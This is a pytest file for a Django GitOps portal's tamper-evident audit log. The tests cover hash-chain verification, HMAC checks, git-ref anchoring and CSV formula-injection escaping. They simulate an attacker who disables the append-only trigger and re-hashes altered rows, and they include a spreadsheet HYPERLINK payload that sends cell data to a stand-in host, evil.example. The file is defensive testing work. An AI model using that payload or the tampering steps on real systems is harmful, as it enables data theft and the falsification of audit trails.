"""The audit history against someone who owns the database: MACs with a key the database
does not have, and anchors of the chain's head in the GitOps repository. Also the CSV
export against formula injection."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from django.core.management import call_command
from django.db import connection
from django.urls import reverse

from gitops_portal.celery import app
from promotions.audit.anchor import anchor_message, audit_anchor_write, audit_head
from promotions.audit.chain import GENESIS, audit_context, audit_record, audit_verify, event_hash
from promotions.catalogue.connect import git_repository
from promotions.catalogue.loader import catalog_load
from promotions.errors import PermanentError
from promotions.gitops.repository import Person
from promotions.models import AuditEvent
from promotions.tasks import audit_anchor_task
from tests.builders import PIPELINE

REF = "refs/gitops-portal/audit-anchors"
KEY = "k" * 16 + "e" * 16 + "y" * 16  # 48 characters, only the portal knows it
EMPTY_TREE = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
TRIGGER = "promotions_auditevent_append_only"  # migration 0004


def record(*actions: str, actor: str = "alice") -> list[AuditEvent]:
    return [audit_record(action=action, actor=actor, message=f"{action} by {actor}") for action in actions]


def verify(*args: str) -> tuple[int, str, str]:
    """`manage.py audit verify …`: (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command("audit", "verify", *args, stdout=out, stderr=err)
    except SystemExit as exc:
        return int(exc.code or 0), out.getvalue(), err.getvalue()
    return 0, out.getvalue(), err.getvalue()


def git(repo, *args: str) -> str:  # type: ignore[no-untyped-def]
    """Look at the remote itself, not through the portal's clone."""
    return subprocess.run(["git", f"--git-dir={repo.path}", *args], capture_output=True, text=True, check=True).stdout


def remote_subjects(repo) -> list[str]:  # type: ignore[no-untyped-def]
    return git(repo, "log", "--first-parent", "--format=%s", REF).splitlines()


@contextmanager
def as_database_owner() -> Iterator[object]:
    """Raw SQL as whoever owns the database: on Postgres the append-only trigger is switched
    off first (an owner may), and on again afterwards."""
    postgres = connection.vendor == "postgresql"
    # The test runs in a transaction: deferred foreign key checks must run before ALTER TABLE.
    switch = "SET CONSTRAINTS ALL IMMEDIATE; ALTER TABLE promotions_auditevent {} TRIGGER " + TRIGGER
    with connection.cursor() as cursor:
        if postgres:
            cursor.execute(switch.format("DISABLE"))
        try:
            yield cursor
        finally:
            if postgres:
                cursor.execute(switch.format("ENABLE"))


def rehash_from(cursor, first_id: int) -> None:  # type: ignore[no-untyped-def]
    """Re-hash the chain from `first_id` on, as the attacker would (the algorithm is no secret)."""
    earlier = AuditEvent.objects.filter(pk__lt=first_id).order_by("-id").values_list("hash", flat=True)
    previous = earlier.first() or GENESIS
    for event in AuditEvent.objects.filter(pk__gte=first_id).order_by("id"):
        event.prev_hash = previous
        event.hash = event_hash(event)
        cursor.execute("UPDATE promotions_auditevent SET prev_hash = %s, hash = %s WHERE id = %s",
                       [event.prev_hash, event.hash, event.pk])  # fmt: skip
        previous = event.hash


def test_it_anchors_the_head_in_the_gitops_repository_and_verifies_against_it(pipeline, repo):
    record("promotion.queued", "promotion.committed")
    first = AuditEvent.objects.latest("id")
    code, out, _ = verify("--anchor")
    count = AuditEvent.objects.count()
    assert code == 0
    assert out.splitlines()[0] == (
        f"{count} events, chain intact; MACs not checked (AUDIT_HMAC_KEY is not set); no anchors yet in {REF} of platform"
    )
    assert out.splitlines()[1].startswith(f"event #{first.pk} anchored at ")
    commit = git(repo, "cat-file", "-p", REF)
    assert f"tree {EMPTY_TREE}\n" in commit
    assert "parent " not in commit  # the first anchor
    assert "committer GitOps Portal <gitops-portal@localhost> " in commit
    assert commit.split("\n\n", 1)[1].startswith(
        f"Audit anchor: event #{first.pk}\n\nAudit-Event: {first.pk}\nAudit-Hash: {first.hash}\nAudit-Mac: -\n"
        f"Audit-Count: {count}\nAudit-Time: "
    )

    record("approval.approved", "promotion.merged")
    code, out, _ = verify("--anchor")
    head = AuditEvent.objects.latest("id")
    assert code == 0
    assert f"; 1 anchor matches (newest #{first.pk} at " in out
    assert remote_subjects(repo) == [f"Audit anchor: event #{head.pk}", f"Audit anchor: event #{first.pk}"]
    assert git(repo, "rev-parse", f"{REF}^") != git(repo, "rev-parse", REF)

    code, out, _ = verify("--anchor")  # nothing happened since: no new anchor
    assert (code, len(remote_subjects(repo))) == (0, 2)
    assert f"{count + 2} events, chain intact; MACs not checked" in out
    assert f"; 2 anchors match (newest #{head.pk} at " in out
    assert out.splitlines()[0].endswith(f") in {REF} of platform")


def test_it_names_the_first_anchored_event_missing_after_rows_are_deleted_and_the_chain_re_hashed(pipeline, repo):
    record("promotion.queued", "promotion.preparing")
    audit_anchor_write(catalog=catalog_load(pipeline))
    _, deleted, merged, anchored = record("promotion.pr_open", "approval.approved", "promotion.merged",
                                          "promotion.syncing")  # fmt: skip
    audit_anchor_write(catalog=catalog_load(pipeline))
    record("promotion.deployed", "promotion.verified")

    # The attack: remove an approval and the last rows, re-hash what is left after the gap.
    with as_database_owner() as cursor:
        cursor.execute("DELETE FROM promotions_auditevent WHERE id = %s OR id >= %s", [deleted.pk, anchored.pk])
        rehash_from(cursor, deleted.pk + 1)
    assert audit_verify().intact  # the chain alone no longer notices

    code, out, err = verify()
    assert (code, out) == (1, "")
    assert err.startswith(f"{AuditEvent.objects.count()} events, chain intact, but event #{anchored.pk}, anchored at ")
    assert err.rstrip("\n").endswith(
        f" in {REF} of platform, is missing: events were deleted (the history now ends at #{merged.pk})"
    )
    # Nor is the truncated history anchored over the evidence.
    assert verify("--anchor")[0] == 1
    with pytest.raises(PermanentError, match=f"contradicts its newest anchor: event #{anchored.pk}"):
        audit_anchor_write(catalog=catalog_load(pipeline))
    assert len(remote_subjects(repo)) == 2


def test_it_names_an_event_changed_and_re_hashed_without_the_key(pipeline, repo, settings):
    record("promotion.queued", "promotion.preparing")  # before the key was set
    settings.AUDIT_HMAC_KEY = KEY
    record("promotion.pr_open")
    victim, *_ = record("approval.approved", "promotion.merged", "promotion.deployed", actor="bob")
    assert all(len(e.mac) == 64 for e in AuditEvent.objects.filter(pk__gte=victim.pk))
    code, out, _ = verify()
    assert code == 0
    assert out.startswith(
        f"{AuditEvent.objects.count()} events, chain intact; MACs checked (2 events from before the key have none); "
    )

    # The attack: the approval becomes mallory's, everything after it is re-hashed.
    with as_database_owner() as cursor:
        cursor.execute("UPDATE promotions_auditevent SET actor = 'mallory' WHERE id = %s", [victim.pk])
        rehash_from(cursor, victim.pk)
    settings.AUDIT_HMAC_KEY = ""
    assert verify()[0] == 0  # without the key, nothing notices
    settings.AUDIT_HMAC_KEY = KEY
    code, _, err = verify()
    assert code == 1
    assert err.startswith(f"event #{victim.pk} (")
    assert err.rstrip("\n").endswith(
        "approval.approved by mallory) breaks the chain: its MAC does not match: it was changed or re-hashed without "
        "the key"
    )

    # Dropping the MACs from there on does not pass for "older than the key".
    with as_database_owner() as cursor:
        cursor.execute("UPDATE promotions_auditevent SET mac = '' WHERE id >= %s", [victim.pk])
    code, _, err = verify()
    assert code == 1
    assert err.startswith(f"event #{victim.pk} (")
    assert "breaks the chain: it has no MAC although an earlier event has one" in err


def test_it_checks_the_anchored_mac(pipeline, repo, settings):
    settings.AUDIT_HMAC_KEY = KEY
    (event,) = record("promotion.queued")
    audit_anchor_write(catalog=catalog_load(pipeline))
    assert f"Audit-Mac: {event.mac}\n" in git(repo, "log", "-1", "--format=%B", REF)
    with as_database_owner() as cursor:
        cursor.execute("UPDATE promotions_auditevent SET mac = '' WHERE id = %s", [event.pk])
    settings.AUDIT_HMAC_KEY = ""  # even without the key at hand, the anchor remembers the MAC
    code, _, err = verify()
    assert code == 1
    assert f"event #{event.pk}, anchored at " in err
    assert f"has MAC none, the anchor says {event.mac}: its MAC was changed" in err


@pytest.mark.parametrize("fault", ["vanished", "refused"])
def test_it_exits_3_when_the_anchors_cannot_be_read(pipeline, repo, write_catalog, tmp_path, fault):
    record("promotion.queued")
    audit_anchor_write(catalog=catalog_load(pipeline))
    if fault == "vanished":
        shutil.move(repo.path, tmp_path / "elsewhere.git")
    else:
        write_catalog(PIPELINE, url="http://127.0.0.1:9/platform.git")  # nothing listens on the discard port
    count = AuditEvent.objects.count()
    for args in ((), ("--anchor",)):
        code, out, err = verify(*args)
        assert (code, out) == (3, "")
        assert err.startswith(f"{count} events, chain intact, but the anchors in {REF} of platform cannot be read: ")
        assert "repository 'platform': cannot fetch " in err


def test_it_exits_3_when_the_head_cannot_be_anchored(pipeline, repo):
    record("promotion.queued")
    hook = repo.path / "hooks" / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'anchors are read-only here' >&2\nexit 1\n")
    hook.chmod(0o755)
    assert verify()[0] == 0  # reading works
    code, out, err = verify("--anchor")
    assert (code, out) == (3, "")
    assert err.startswith(f"{AuditEvent.objects.count()} events, chain intact; MACs not checked")
    assert f"; but the head could not be anchored in {REF} of platform: repository 'platform': cannot push to " in err
    exists = subprocess.run(["git", f"--git-dir={repo.path}", "rev-parse", "--verify", "--quiet", REF], check=False)
    assert exists.returncode == 1  # nothing was anchored


def test_it_stacks_its_anchor_on_top_of_one_pushed_meanwhile(pipeline, repo, settings, tmp_path):
    catalog = catalog_load(pipeline)
    record("promotion.queued")
    audit_anchor_write(catalog=catalog)
    record("promotion.committed")
    # Another portal instance (its own clone) anchors this head …
    other = git_repository(catalog.repositories[0], data_dir=tmp_path / "other")
    theirs = other.write_empty_commit(
        parent=other.fetch_ref(REF), message=anchor_message(audit_head()), committer=Person("GitOps Portal", "x@y")
    )  # fmt: skip
    # … and its push lands just as ours is under way (between our fetch and our push).
    hook = settings.DATA_DIR / "repos" / "platform.git" / "hooks" / "pre-push"
    marker = tmp_path / "pushed"
    hook.write_text(f"#!/bin/sh\n[ -e {marker} ] && exit 0\ntouch {marker}\n"
                    f"exec git --git-dir={other.path} push -q {repo.url} {theirs}:{REF}\n")  # fmt: skip
    hook.chmod(0o755)
    record("promotion.deployed")
    ours = audit_anchor_write(catalog=catalog)
    assert marker.exists()
    assert ours is not None
    assert git(repo, "rev-parse", REF).strip() == ours.commit
    assert git(repo, "rev-parse", f"{REF}^").strip() == theirs
    head = AuditEvent.objects.latest("id").pk
    assert remote_subjects(repo) == [f"Audit anchor: event #{n}" for n in (head, head - 1, head - 2)]
    code, out, _ = verify()
    assert code == 0
    assert f"; 3 anchors match (newest #{head} at " in out


def test_it_anchors_every_hour_from_celery_beat(pipeline, repo, settings):
    assert settings.CELERY_BEAT_SCHEDULE["audit-anchor"] == {
        "task": "promotions.tasks.audit_anchor_task",
        "schedule": 3600.0,
    }
    assert "promotions.tasks.audit_anchor_task" in app.tasks
    record("promotion.queued")
    audit_anchor_task()
    audit_anchor_task()  # the head has not moved: no second anchor
    head = AuditEvent.objects.latest("id")
    assert remote_subjects(repo) == [f"Audit anchor: event #{head.pk}"]
    assert f"Audit-Hash: {head.hash}\n" in git(repo, "log", "-1", "--format=%B", REF)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def test_it_neutralises_formulas_in_csv_cells_but_not_in_json(client, bob):
    with audit_context(source="ui", request_id="@req-1"):
        for text in FORMULAS:
            audit_record(action="auth.login_failed", actor=text, message=text, stage="a-b")
    client.force_login(bob)
    exported = client.get(reverse("audit"), {"format": "csv"}).content.decode()
    rows = [row for row in csv.DictReader(io.StringIO(exported)) if row["action"] == "auth.login_failed"]
    assert [row["actor"] for row in rows] == ["'" + text for text in FORMULAS]
    assert [row["message"] for row in rows] == ["'" + text for text in FORMULAS]
    assert {(row["request_id"], row["stage"], row["action"]) for row in rows} == {
        ("'@req-1", "a-b", "auth.login_failed")
    }
    out = io.StringIO()
    call_command("audit", "export", "--format", "csv", stdout=out)
    assert out.getvalue() == exported
    document = json.loads(client.get(reverse("audit"), {"format": "json"}).content)
    assert [event["actor"] for event in document if event["action"] == "auth.login_failed"] == FORMULAS
    assert document[0]["request_id"] == "@req-1"
